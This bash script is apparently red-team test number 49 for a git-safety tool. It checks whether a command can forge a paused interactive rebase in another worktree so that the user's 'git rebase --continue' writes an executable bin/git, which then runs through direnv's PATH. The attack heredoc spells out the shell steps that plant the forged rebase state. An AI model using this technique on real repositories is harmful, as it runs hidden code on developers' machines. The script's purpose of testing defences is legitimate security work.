#!/usr/bin/env bash
# red team 49: a paused rebase in the user's other worktree whose
# orig-head and onto are that worktree's own HEAD (nothing to hold), and
# whose todo list says "pick C", C a commit of the command's (that HEAD's
# tree plus an executable bin/git). `git status` there says "Next command
# to do: pick ... (use git rebase --continue ...)"; the user's `git
# rebase --continue` picks C, writes bin/git, and moves the branch
# (head-name) to it. git-later-pointers.c reads orig-head only; the sweep
# reads the todo list for exec lines only. The run is in the main
# worktree and writes git objects and plain files under
# .git/worktrees/w2/ only; `git status` in w2 with direnv's PATH_add bin
# then runs bin/git. (Not tried: a "reset C" or "merge C" line, and the
# sequencer's own sequencer/todo with `git cherry-pick --continue`.)
# usage: 49-w2-rebase-todo.sh /path/to/sluice   (as root or a user)
NAME=w2-rebase-todo
HOLE="w2's rebase todo list said pick C; the user's git rebase --continue in w2 wrote the command's bin/git and moved feature there; git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1/main" && git -C "$1/main" worktree add -q "$1/w2" -b feature; }
run_dir() { echo "$1/main"; }
attack() {
  plant "$1" feature
  cat <<'EOA'
&& f=$($G rev-parse feature) && d=.git/worktrees/w2/rebase-merge && mkdir $d
&& echo refs/heads/feature >>$d/head-name && echo $f >>$d/orig-head && echo $f >>$d/onto
&& echo "pick $C format helper" >>$d/git-rebase-todo && touch $d/interactive $d/done
EOA
}
trigger() {
  echo "   w2's git status: $(git -C "$1/w2" status 2>&1 | grep -m1 'rebase --continue')"
  git -C "$1/w2" rebase --continue >/dev/null 2>&1; user_status "$1/w2"
}
finish
